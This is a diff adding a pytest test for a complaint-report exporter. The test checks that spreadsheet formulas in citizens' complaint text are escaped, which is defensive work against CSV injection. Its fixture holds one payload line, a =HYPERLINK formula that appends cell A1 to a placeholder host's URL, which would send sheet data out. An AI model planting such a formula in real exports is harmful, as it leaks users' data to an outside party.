@@ -244,3 +244,61 @@ def test_terminal_says_the_ikm(report: Path, capsys: pytest.CaptureFixture[str])
     assert "3 responden dari 5 kunjungan selesai; sampel minimum 5" in text
     assert "2 pengaduan diterima pada periode ini" in text
     assert "masih dapat diisi" not in text  # NOW is long after the survey of the 24th closed
+
+
+async def test_complaints_csv_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    """complaints.csv is opened in a spreadsheet on the office PC (SP4N-LAPOR! operators). A
+    citizen's text, a manager's answer or note that begins with =, +, - or @ would be computed
+    there as a formula (OWASP "CSV injection": a HYPERLINK that sends the sheet away). Such a
+    cell is written with a leading apostrophe, which the spreadsheet shows as the text typed."""
+    from skm_period import Log, at, complaint
+
+    log = Log()
+    typed = '=HYPERLINK("http://contoh.invalid/?"&A1;"Klik")'
+    complaint(
+        log,
+        at(23, "10:00"),
+        "ADU-261123-001",
+        None,
+        "desk:M01",
+        text=typed,
+        take_by=at(26, "23:59"),
+    )
+    log.ev(
+        "manager:M01",
+        "complaint_taken",
+        at(23, "10:05"),
+        complaint="ADU-261123-001",
+        by="M01",
+        note="@Budi cek",
+        answer_by=at(30, "23:59"),
+    )
+    log.ev(
+        "manager:M01",
+        "complaint_answered",
+        at(23, "11:00"),
+        complaint="ADU-261123-001",
+        by="M01",
+        answer="+62 812 3456 7890 menghubungi Anda.",
+        closes_at=at(30, "11:00"),
+    )
+    complaint(
+        log,
+        at(23, "12:00"),
+        "ADU-261123-002",
+        None,
+        "desk:M01",
+        text="Antrean lama - tolong ditambah loket.",
+        take_by=at(26, "23:59"),
+    )
+    db, out = tmp_path / "antre.db", tmp_path / "out"
+    await write_store(db, log.entries())
+    argv = ["--day", "2026-11-23", "--db", str(db), "--out", str(out), "--skm", "--quiet"]
+    assert report_main(argv, now=NOW) == 0
+    rows = rows_by(out / "complaints.csv", "id")
+    first = rows["ADU-261123-001",]
+    assert first["text"] == "'" + typed
+    assert first["answer"] == "'+62 812 3456 7890 menghubungi Anda."
+    assert first["notes"] == "diproses: @Budi cek"  # begins with "diproses": no formula
+    # A text that only holds such a character further on is written as typed.
+    assert rows["ADU-261123-002",]["text"] == "Antrean lama - tolong ditambah loket."
